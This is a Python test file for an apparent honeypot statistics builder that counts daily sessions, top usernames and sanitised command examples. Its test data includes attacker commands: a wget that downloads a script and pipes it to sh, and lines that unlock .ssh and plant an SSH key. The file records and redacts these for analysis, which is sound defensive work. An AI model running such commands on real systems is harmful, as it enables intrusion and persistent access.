"""The builder's activity statistics: days, top usernames, examples."""

from pathlib import Path

import numpy as np
from hypothesis import given, settings
from hypothesis import strategies as st

from sikker.builder import demo
from sikker.builder.demo_stats import DEMO_DAYS, demo_stats
from sikker.builder.publish import Publisher, publish
from sikker.builder.stats import (
    DAYS,
    EXAMPLES,
    TOP_USERNAMES,
    day_name,
    merge,
    sanitise,
)
from sikker.builder.writer import Intel
from sikker.core.landscape import snapshot_stats
from sikker.core.vocab import PROTOCOLS
from tests.test_incremental import (
    PERSISTENCE,
    T0,
    append,
    builder_for,
    current,
    full_build,
    session,
)

DAY = 86_400


def test_sessions_add_up_per_day_and_protocol() -> None:
    stats = merge(None, {(20_000, "ssh"): 3, (20_001, "ssh"): 1}, {}, {})
    stats = merge(stats, {(20_000, "ssh"): 2, (20_000, "redis"): 5}, {}, {})
    assert stats["days"] == {
        day_name(20_000): {"ssh": 5, "redis": 5},
        day_name(20_001): {"ssh": 1},
    }
    assert day_name(20_000) == "2024-10-04"


def test_only_the_newest_days_are_kept() -> None:
    stats = merge(None, {(d, "ssh"): 1 for d in range(DAYS + 10)}, {}, {})
    assert len(stats["days"]) == DAYS
    assert min(stats["days"]) == day_name(10)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(
        st.dictionaries(
            st.sampled_from([f"user{i}" for i in range(3 * TOP_USERNAMES)]),
            st.integers(1, 50),
            max_size=60,
        ),
        max_size=12,
    )
)
def test_the_top_usernames_stay_exact_batch_after_batch(
    batches: list[dict[str, int]],
) -> None:
    totals: dict[str, int] = {}
    stats = None
    for batch in batches:  # each batch adds attempts; totals only grow
        changed = {}
        for name, more in batch.items():
            totals[name] = totals.get(name, 0) + more
            changed[name] = totals[name]
        stats = merge(stats, {}, changed, {})
    expected = sorted(totals.items(), key=lambda i: (-i[1], i[0]))[:TOP_USERNAMES]
    assert list((stats or {"usernames": {}})["usernames"].items()) == expected


def test_examples_are_capped_and_not_repeated() -> None:
    stats = merge(None, {}, {}, {"p": ["a", "b", "a"]})
    stats = merge(stats, {}, {}, {"p": ["b", "c", "d", "e"], "q": ["x"]})
    assert stats["examples"] == {"p": ["a", "b", "c"][:EXAMPLES], "q": ["x"]}


def test_examples_are_sanitised_like_comments() -> None:
    raw = (
        "wget http://user:pw@203.0.113.9/x.sh?token=abc -O- | sh\n"
        "# mail admin@example.com\x1b[31m"
    )
    shown = sanitise(raw)
    assert (
        "pw@" not in shown and "abc" not in shown and "admin@example.com" not in shown
    )
    assert "203.0.113.9" not in shown and "\n" not in shown and "\x1b" not in shown
    assert "wget http://" in shown and "| sh" in shown
    assert len(sanitise("x " * 500)) <= 200


def test_demo_activity_spreads_each_ips_sessions_over_its_days() -> None:
    now = 1_800_000_000
    table = demo.generate(400, seed=3, now=now)
    stats = demo_stats(table, now)
    assert len(stats["days"]) <= DEMO_DAYS and stats["examples"] == {}
    first = now // DAY - DEMO_DAYS + 1
    expected = np.zeros((len(PROTOCOLS), DEMO_DAYS))
    for i in range(len(table)):
        start = int(table.first_seen[i]) // DAY
        stop = max(int(table.last_seen[i]) // DAY, start)
        lo, hi = table.protocols.offsets[i], table.protocols.offsets[i + 1]
        for pid, n in zip(
            table.protocols.ids[lo:hi],
            table.protocols.values["sessions"][lo:hi],
            strict=True,
        ):
            for day in range(max(start, first), min(stop, first + DEMO_DAYS - 1) + 1):
                expected[pid, day - first] += n / (stop - start + 1)
    for d in range(DEMO_DAYS):
        shown = stats["days"].get(day_name(first + d), {})
        for p, name in enumerate(PROTOCOLS):
            assert abs(shown.get(name, 0) - expected[p, d]) <= 1, (d, name)
    tried = list(stats["usernames"].values())
    assert tried == sorted(tried, reverse=True) and "root" in stats["usernames"]


def test_the_builder_records_sessions_usernames_and_examples(tmp_path: Path) -> None:
    append(tmp_path, session("45.33.12.7", "a1", PERSISTENCE))
    append(tmp_path, session("45.33.12.8", "a2", PERSISTENCE, t=T0 + DAY * 1000))
    full_build(tmp_path)
    with current(tmp_path) as snap:
        stats = snapshot_stats(snap)
    day = day_name(T0 // 1000 // DAY)
    assert stats["days"] == {
        day: {"ssh": 1},
        day_name(T0 // 1000 // DAY + 1): {"ssh": 1},
    }
    assert stats["usernames"] == {"root": 4}  # two sessions, two logins each
    examples = stats["examples"]
    assert examples["cmd-chattr-unlock"] == ["cd ~; chattr -ia .ssh; lockr -ia .ssh"]
    assert examples["cmd-mdrfckr-key"][0].startswith("echo 'ssh-rsa")
    assert all(len(v) == 1 for v in examples.values())  # the same values twice


def test_each_generation_carries_every_statistic_so_far(tmp_path: Path) -> None:
    append(tmp_path, session("45.33.12.7", "a1", ["uname -a"]))
    full_build(tmp_path)
    builder = builder_for(tmp_path)
    try:
        with Publisher(tmp_path) as publisher:
            builder.log.append(session("45.33.12.9", "b1", ["uname -a"], sensor="x"))
            assert builder.step(publisher).manifest is not None
    finally:
        builder.close()
    with current(tmp_path) as snap:
        assert snap.base is not None  # an overlay, which carries the totals
        assert sum(c["ssh"] for c in snap.top.stats["days"].values()) == 2
        assert snapshot_stats(snap)["usernames"] == {"root": 4}


def test_a_demo_snapshots_statistics_seed_the_builders(tmp_path: Path) -> None:
    now = T0 // 1000
    table = demo.generate(300, seed=4, now=now)
    publish(table, tmp_path, intel=Intel(stats=demo_stats(table, now)))
    seeded = demo_stats(table, now)
    append(tmp_path, session("45.33.12.7", "a1", ["uname -a"]))
    builder = builder_for(tmp_path)
    try:
        with Publisher(tmp_path) as publisher:
            builder.step(publisher)
    finally:
        builder.close()
    with current(tmp_path) as snap:
        stats = snapshot_stats(snap)
    today = day_name(now // DAY)
    assert stats["days"][today]["ssh"] == seeded["days"][today].get("ssh", 0) + 1
    assert stats["usernames"]["root"] == seeded["usernames"]["root"] + 2
